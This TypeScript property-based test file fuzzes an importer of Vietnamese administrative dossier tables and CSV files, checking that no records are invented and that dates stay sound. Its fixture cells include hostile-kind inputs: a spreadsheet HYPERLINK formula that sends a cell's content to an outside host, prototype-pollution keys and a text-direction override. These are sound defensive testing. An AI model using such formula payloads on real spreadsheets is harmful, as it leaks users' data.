/** Whatever comes in, nothing breaks, and no dossier is made up. */
import fc from "fast-check";
import { expect, test } from "vitest";
import type { ImportedDossiers } from "../../../../domain/dossier-import.ts";
import { DEFAULT_ZONE, parseLocalDate } from "../../../../domain/time.ts";
import type { SourceDocument } from "../../../../jobs/import/reading/document.ts";
import { readDocument } from "../../../../jobs/import/reading/read-document.ts";
import { recogniseDossiers } from "../../../../jobs/import/recognising/dossiers/recognise-dossiers.ts";
import { sourceFile } from "../given.ts";

const TITLES = [
  ["STT", "Mã hồ sơ", "Số hồ sơ", "Tên TTHC", "Lĩnh vực", "Người nộp", "SĐT", "Địa chỉ"],
  ["Ngày tiếp nhận", "Ngày hẹn trả", "Thời hạn giải quyết", "Ngày trả kết quả"],
  ["Ngày kết thúc xử lý", "Đơn vị xử lý", "Trạng thái", "Số lần bổ sung", "Ngày bổ sung"],
  ["Ngày yêu cầu bổ sung", "Hình thức nộp", "Số hóa", "Ghi chú", "Ngày", ""],
].flat();
const CELLS = [
  ["", "", "-", "A-1", "A-1", "A-2", "000.00.05.H49-230220-0012", "1", "(1)", "10", "Tổng cộng"],
  ["20/02/2023", "20/02/2023 15:30", "2023-02-21T08:00", "22-02-2023", "45012.39583", "45012"],
  ["31/02/2023", "24:00 20/02/2023", "20/02/9999", "20/02/23", "NaN", "03 ngày làm việc"],
  ["Đang xử lý", "Đã trả kết quả", "Trễ hạn", "5", "Phòng Tư pháp", "I. Hộ tịch", "x", "\0"],
  ['=HYPERLINK("http://x/?"&A1)', "\u202e", "__proto__", "constructor", "<b>unclosed"],
].flat();

function expectSound(document: SourceDocument): void {
  const found = recogniseDossiers(document, DEFAULT_ZONE);
  if (found === null) return;
  const written = document.blocks.flatMap((block) => (block.kind === "table" ? block.rows : []));
  for (const { row, facts, unit } of found.dossiers) {
    const cells = written
      .filter(({ line }) => line === row)
      .flatMap((each) => each.cells.map((cell) => cell.replace(/\s+/gu, " ").trim()));
    expect(cells).toContain(facts.code);
    expect(facts.code).not.toBe("");
    expect(facts.writtenDue !== null || facts.limit !== null).toBe(true);
    const dates = [facts.received, facts.writtenDue, facts.finished, facts.returned];
    const days = dates.flatMap((date) => (date === null ? [] : [date.on]));
    expect(days.filter((day) => parseLocalDate(day) === null)).toEqual([]);
    expect(days.filter((day) => day < facts.received.on)).toEqual([]);
    expect(unit.length).toBeLessThanOrEqual(200);
  }
  expectOneEach(found);
}

/** No row is both taken and rejected, and no code is taken twice. */
function expectOneEach({ dossiers, rejected }: ImportedDossiers): void {
  const codes = dossiers.map(({ facts }) => facts.code.toLowerCase().replace(/\s/gu, ""));
  expect(new Set(codes).size).toBe(codes.length);
  const taken = new Set(dossiers.map(({ row }) => row));
  expect(rejected.filter(({ row }) => taken.has(row))).toEqual([]);
}

const cell = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...CELLS) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
);
const DATES = ["20/02/2023", "21/02/2023 15:30", "45012.39583", "31/02/2023", ""];
const date = fc.constantFrom(...DATES);
/** With a code and dates where `exportHeader` has their titles, or with anything anywhere. */
const row = fc.oneof(
  fc.array(cell, { maxLength: 12 }),
  fc
    .tuple(fc.constantFrom("A-1", "a-1", "A-2", "A-3", "12"), date, date, fc.array(cell))
    .map(([code, received, due, others]) => [code, received, due, ...others]),
);
const header = fc.array(fc.constantFrom(...TITLES), { minLength: 3, maxLength: 12 });
/** With the titles that make an export of it, in some place. */
const exportHeader = header.map((titles) => ["Mã hồ sơ", "Ngày tiếp nhận", "Hạn trả", ...titles]);

test("any table, with any titles", () => {
  let taken = 0;
  fc.assert(
    fc.property(
      fc.oneof(header, exportHeader),
      fc.array(fc.tuple(row, fc.option(fc.array(fc.boolean(), { maxLength: 12 }))), {
        maxLength: 10,
      }),
      fc.array(fc.oneof(cell, fc.constant("Tính đến ngày 20/02/2023")), { maxLength: 3 }),
      (titles, rows, lines) => {
        const table = [[titles, null] as const, ...rows].map(([cells, continues], index) => ({
          cells,
          line: index + 1,
          ...(continues && { continues }),
        }));
        const texts = lines.map((text) => ({ kind: "paragraph" as const, text, line: 100 }));
        const document: SourceDocument = { blocks: [...texts, { kind: "table", rows: table }] };
        taken += recogniseDossiers(document, DEFAULT_ZONE)?.dossiers.length ?? 0;
        expectSound(document);
      },
    ),
    { numRuns: 500 },
  );
  // It is no proof where there was nothing to look at.
  expect(taken).toBeGreaterThan(20);
});

test("any bytes, any text, in whatever encoding", async () => {
  const text = fc.array(row, { maxLength: 8 }).map((rows) => {
    const titles = "Mã hồ sơ;Ngày tiếp nhận;Hạn trả;Trạng thái";
    return [titles, ...rows.map((cells) => cells.join(";"))].join("\r\n");
  });
  const bytes = fc.oneof(
    fc.uint8Array({ maxLength: 300 }),
    text.map((each) => new TextEncoder().encode(each)),
    text.map((each) => new TextEncoder().encode(each.normalize("NFD"))),
    text.map((each) => Uint8Array.from(each, (letter) => letter.charCodeAt(0) % 256)),
  );
  await fc.assert(
    fc.asyncProperty(bytes, async (content) => {
      const document = await readDocument(sourceFile(content, "ho-so.csv"));
      if (document.ok) expectSound(document.value);
    }),
    { numRuns: 200 },
  );
});
